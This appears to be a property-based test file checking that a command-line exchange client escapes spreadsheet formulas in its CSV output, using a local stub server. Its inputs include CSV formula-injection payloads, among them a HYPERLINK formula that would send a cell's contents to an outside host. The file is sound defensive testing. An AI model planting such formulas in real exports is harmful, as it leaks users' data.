// Text of a hostile server cannot be executed by a spreadsheet that opens the CSV of the command.
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { escapeLine } from '../../src/output/escape-text.ts'
import { run } from '../command.ts'

let server: Server
let body = ''
let environment: Readonly<Record<string, string>>

beforeAll(async () => {
  server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'application/json' }).end(body)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  environment = { CAPI_URL: url, CAPI_KEY: 'k', CAPI_SECRET: 's', CAPI_PASSPHRASE: 'p' }
})
afterAll(() => server.close())

/** Returns the records of a command's CSV as an independent parser reads them. */
async function read(line: string): Promise<readonly Readonly<Record<string, string>>[]> {
  const { exit, stdout, stderr } = await run(`${line} --format csv`.split(' '), environment)
  expect([exit, stderr]).toEqual([0, ''])
  return parse(stdout, { columns: true, record_delimiter: '\n' })
}

const recover = (cell: string): string => (/^'+[=+\-@＝＋－＠]/.test(cell) ? cell.slice(1) : cell)
const formula = fc
  .tuple(fc.constantFrom('=', '+', '-', '@', "'=", '\t', '\r', '＝'), fc.string())
  .map(([a, b]) => a + b)
const text = fc.oneof(
  formula,
  fc.constantFrom('=HYPERLINK("http://example.com/"&A1,"x")', '+1+1', '@SUM(1)', '-1.5', '-2+3', '\t=1', '\r=1'),
)
const order = fc.record({ symbol: text, client_oid: text, price: text, fee: text, status: text, order_id: text })
const bill = fc.record({ coin: text, amount: text, businessType: text, transferReason: text })
/** Returns the answer with bills, whose ids differ, because a list omits what it has had. */
const billsOf = (records: readonly object[]): object => ({
  hasNextPage: false,
  items: records.map((each, index) => ({ ...each, billId: `=${index}` })),
})

describe('--format csv', () => {
  it.each([
    ['list-current-orders', order, (records: readonly object[]) => records],
    ['orders', order, (records: readonly object[]) => records],
    ['bills', bill, billsOf],
    ['bills --all', bill, billsOf],
    ['list-tickers', fc.record({ symbol: text, last: text, best_ask: text }), (records: readonly object[]) => records],
  ])('of %s has no formula of the server, and the values can be recovered', async (line, record, answer) => {
    await fc.assert(
      fc.asyncProperty(fc.array<Record<string, string>>(record, { minLength: 1, maxLength: 3 }), async (records) => {
        body = JSON.stringify(answer(records))
        const rows = await read(line)
        const cells = rows.flatMap((row) => Object.values(row))
        for (const cell of cells)
          if (/^[=+\-@\t\r＝＋－＠]/.test(cell)) expect([cell, Number.isFinite(Number(cell))]).toEqual([cell, true])
        const recovered = rows.map((row) => new Set(Object.values(row).map(recover)))
        records.forEach((each, index) => {
          for (const value of Object.values(each)) expect(recovered[index]).toContain(escapeLine(value))
        })
      }),
      { numRuns: 40 },
    )
  })

  it('leaves negative numbers as they are, also in percent', async () => {
    body = JSON.stringify([
      { id: '1', symbol: 'x', side: 'LONG', size: '1', open_value: '100', unrealizePnl: '-5.5', leverage: '20' },
    ])
    expect(await read('positions --columns unrealizePnl,percent')).toEqual([{ unrealizePnl: '-5.5', percent: '-110%' }])
  })
})
